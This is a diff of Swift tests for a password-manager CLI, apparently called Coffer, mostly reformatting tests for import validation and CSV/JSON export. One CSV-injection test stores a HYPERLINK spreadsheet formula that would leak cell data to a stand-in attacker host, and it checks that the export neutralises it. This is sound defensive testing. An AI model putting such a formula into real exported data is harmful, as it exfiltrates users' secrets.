@@ -89,11 +89,21 @@ import Glibc
     @Test(arguments: [
         ("csv", "bad.csv", "name,url,username,password\nok,https://a,u,p\nbroken,https://b\n", "bad.csv: line 3: 2 columns, but the header has 4"),
         ("csv", "q.csv", "name,url,username,password\n\"open,https://a,u,p\n", "q.csv: line 2: a quoted field is never closed"),
-        ("bitwarden-json", "bw.json", #"{"items":[{"type":1,"name":"ok","login":{}},{"type":7,"name":"weird"}]}"#, "bw.json: items[1] ('weird'): unknown item type 7"),
+        (
+            "bitwarden-json", "bw.json", #"{"items":[{"type":1,"name":"ok","login":{}},{"type":7,"name":"weird"}]}"#,
+            "bw.json: items[1] ('weird'): unknown item type 7"
+        ),
         ("bitwarden-json", "enc.json", #"{"encrypted":true,"data":"x"}"#, "password-protected"),
-        ("keepass-xml", "k.xml", "<KeePassFile><Root><Group><Name>R</Name><Entry><String><Key>Title</Key><Value>a</Value></String></Entry>\n<Entry></Group>", "k.xml: line 2: malformed XML"),
+        (
+            "keepass-xml", "k.xml", "<KeePassFile><Root><Group><Name>R</Name><Entry><String><Key>Title</Key><Value>a</Value></String></Entry>\n<Entry></Group>",
+            "k.xml: line 2: malformed XML"
+        ),
         ("dotenv", "x.env", "GOOD=1\n9BAD=2\n", "x.env:2:"),
-        ("coffer-json", "c.json", #"{"format":"coffer-json","version":1,"exportedAt":"x","items":[{"name":"a","type":"login","fields":[]},{"name":"b","type":"nope","fields":[]}]}"#, "c.json: items[1] ('b'): unknown type 'nope'"),
+        (
+            "coffer-json", "c.json",
+            #"{"format":"coffer-json","version":1,"exportedAt":"x","items":[{"name":"a","type":"login","fields":[]},{"name":"b","type":"nope","fields":[]}]}"#,
+            "c.json: items[1] ('b'): unknown type 'nope'"
+        ),
         ("1password-1pux", "x.1pux", "not a zip", "x.1pux: not a zip archive"),
     ])
     func badInputIsRefusedWhole(format: String, file: String, content: String, message: String) {
@@ -148,7 +158,13 @@ import Glibc
         let home = TestHome()
         home.initVault()
         let zip = home.path("export.1pux")
-        let py = Spawn.run("/usr/bin/env", ["python3", "-c", "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], 'w'); z.write(sys.argv[2], 'export.data'); z.writestr('export.attributes', '{}'); z.close()", zip, Self.fixture("1pux-export.data")], stdin: nil, fd3: nil, environment: home.environment, workDir: home.root.path)
+        let py = Spawn.run(
+            "/usr/bin/env",
+            [
+                "python3", "-c",
+                "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], 'w'); z.write(sys.argv[2], 'export.data'); z.writestr('export.attributes', '{}'); z.close()",
+                zip, Self.fixture("1pux-export.data"),
+            ], stdin: nil, fd3: nil, environment: home.environment, workDir: home.root.path)
         try #require(py.status == 0, "\(py)")
         let r = home.unlocked(["import", "--from", "1password-1pux", zip])
         #expect(r.status == 0, "\(r)")
@@ -156,7 +172,9 @@ import Glibc
         #expect(get(home, "Private/Example Login", "totp") == "otpauth://totp/Example:zoe?secret=JBSWY3DPEHPK3PXP")
         #expect(get(home, "Private/OpenAI", "credential") == "sk-test-123")
         let noData = home.path("empty.1pux")
-        _ = Spawn.run("/usr/bin/env", ["python3", "-c", "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], 'w'); z.writestr('x', 'y'); z.close()", noData], stdin: nil, fd3: nil, environment: home.environment, workDir: home.root.path)
+        _ = Spawn.run(
+            "/usr/bin/env", ["python3", "-c", "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], 'w'); z.writestr('x', 'y'); z.close()", noData],
+            stdin: nil, fd3: nil, environment: home.environment, workDir: home.root.path)
         let bad = home.unlocked(["import", "--from", "1password-1pux", noData])
         #expect(bad.status == 65 && bad.stderr.contains("no export.data"), "\(bad)")
     }
@@ -206,7 +224,13 @@ import Glibc
         let home = TestHome()
         home.initVault()
         let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
-        #expect(home.unlocked(["add", "a/site", "--type", "login", "--field", "username=@admin", "--field", "url=https://a.example", "--field", "+cmd=+1", "--field", "tabbed=\tx"], stdin: formula + "\n").status == 0)
+        #expect(
+            home.unlocked(
+                [
+                    "add", "a/site", "--type", "login", "--field", "username=@admin", "--field", "url=https://a.example", "--field", "+cmd=+1", "--field",
+                    "tabbed=\tx",
+                ], stdin: formula + "\n"
+            ).status == 0)
         #expect(home.unlocked(["add", "b/site", "--type", "login", "--field", "username=-bob", "--field", "notes='=quoted"], stdin: "plain\n").status == 0)
         let r = home.unlocked(["export", "--format", "csv", "--plaintext", "--out", "x.csv"])
         #expect(r.status == 0, "\(r)")
@@ -218,7 +242,9 @@ import Glibc
         #expect(rows[2] == "b/site,login,,,'-bob,plain,,''=quoted,,,", "\(text)")
         let notes = r.stderr.split(separator: "\n").filter { $0.contains("formula") }
         #expect(notes.count == 1, "\(r)")
-        #expect(r.stderr.contains("coffer: 6 cells that a spreadsheet would run as formulas were written with a leading ' (--csv-formulas-as-is writes them unchanged)"), "\(r)")
+        #expect(
+            r.stderr.contains(
+                "coffer: 6 cells that a spreadsheet would run as formulas were written with a leading ' (--csv-formulas-as-is writes them unchanged)"), "\(r)")
         #expect(!r.stderr.contains("HYPERLINK") && !r.stderr.contains("@admin"))
         // Read back by Coffer: the values are the stored ones.
         let other = TestHome()
@@ -244,7 +270,10 @@ import Glibc
     @Test func cofferJSONRoundTripIsLossless() throws {
         let home = TestHome()
         home.initVault()
-        #expect(home.unlocked(["add", "work/openai", "--type", "api-key", "--source", "openai", "--tag", "ai", "--tag", "prod", "--expires", "2030-12-31"], stdin: "sk-one").status == 0)
+        #expect(
+            home.unlocked(
+                ["add", "work/openai", "--type", "api-key", "--source", "openai", "--tag", "ai", "--tag", "prod", "--expires", "2030-12-31"], stdin: "sk-one"
+            ).status == 0)
         #expect(home.unlocked(["edit", "work/openai", "--field", "key=sk-two"]).status == 0)
         #expect(home.unlocked(["edit", "work/openai", "--env-var", "key=OPENAI_API_KEY"]).status == 0)
         #expect(home.unlocked(["add", "notes/ünï", "--type", "note"], stdin: "line 1\nline 2\n").status == 0)
@@ -268,7 +297,8 @@ import Glibc
                 return i
             }
         }
-        let a = try items(file), b = try items(again)
+        let a = try items(file)
+        let b = try items(again)
         #expect(NSArray(array: a).isEqual(to: b), "\(a)\n\(b)")
         #expect(other.unlocked(["history", "work/openai", "--json", "--show-secrets"]).stdout.contains("sk-one"))
         #expect(other.unlocked(["verify"]).status == 0)
